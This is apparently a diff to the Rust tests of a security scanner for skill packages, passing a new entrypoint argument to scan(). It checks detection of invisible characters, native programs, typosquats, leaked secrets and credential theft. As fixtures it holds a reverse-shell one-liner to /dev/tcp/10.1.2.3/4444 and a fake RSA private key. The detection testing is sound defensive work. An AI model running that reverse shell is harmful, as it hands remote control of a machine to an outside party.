@@ -11,7 +11,7 @@ fn file(path: &str, text: &str) -> SkillFile {
 }
 
 fn scanned(path: &str, text: &str) -> Vec<Finding> {
-    scan(&[file(path, text)])
+    scan(&[file(path, text)], None)
 }
 
 const RSA: &str = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAr7x2QfPz9Lk3vXc8bN1mWqYtUeRdSaHgJfKoLpZiXuCyVbTn\nB5wMq0sGhEjDkFlZxPcOvIuYbNtMrKeWqJaSdHfGzLxCpVoBiUnYtMrEwQkJhGfD\n-----END RSA PRIVATE KEY-----\n";
@@ -238,11 +238,11 @@ fn names_and_programs_are_looked_at() {
     let found = scanned("a\u{200b}.md", "");
     assert_eq!((found[0].code, found[0].severity), ("invisible_character", Severity::Warning));
     let program = SkillFile { path: "bin/tool".into(), bytes: b"\x7fELF\x02\x01\x01\0"[..].into(), executable: true };
-    assert_eq!(scan(&[program])[0].code, "native_program");
+    assert_eq!(scan(&[program], None)[0].code, "native_program");
     // A module of the skill's own is no imitation of anything.
     let own = [file("main.py", "import request\n"), file("request.py", "")];
-    assert_eq!(scan(&own), []);
-    assert_eq!(scan(&own[..1])[0].code, "typosquat");
+    assert_eq!(scan(&own, None), []);
+    assert_eq!(scan(&own[..1], None)[0].code, "typosquat");
 }
 
 /// The secret itself must not be spread by the message about it.
@@ -259,7 +259,7 @@ fn messages_do_not_repeat_secrets_nor_carry_what_a_terminal_obeys() {
 fn the_work_and_the_findings_are_bounded() {
     let lines = "bash -i >& /dev/tcp/10.1.2.3/4444\n".repeat(100_000);
     let files: Vec<_> = (0..100).map(|number| file(&format!("f{number:02}.sh"), &lines)).collect();
-    let (findings, peak) = peak_of(|| scan(&files));
+    let (findings, peak) = peak_of(|| scan(&files, None));
     assert!(findings.len() <= 200 && findings.iter().any(|finding| finding.code == "scanned_in_part"));
     assert_eq!(findings.iter().filter(|finding| finding.path.as_deref() == Some("f00.sh")).count(), 6);
     assert!(peak < 64 << 20, "{peak}");
@@ -284,7 +284,8 @@ fn the_examples_are_clean_but_for_the_thief() {
     let mut seen = 0;
     for entry in std::fs::read_dir(examples).unwrap() {
         let path = entry.unwrap().path();
-        let findings = scan(&read_directory(&path, &Limits::default()).unwrap().files);
+        let package = read_directory(&path, &Limits::default()).unwrap();
+        let findings = scan(&package.files, package.entrypoint.as_ref());
         if path.ends_with("malicious") {
             assert_eq!((findings[0].code, findings[0].severity), ("credential_theft", Severity::Error));
         } else {
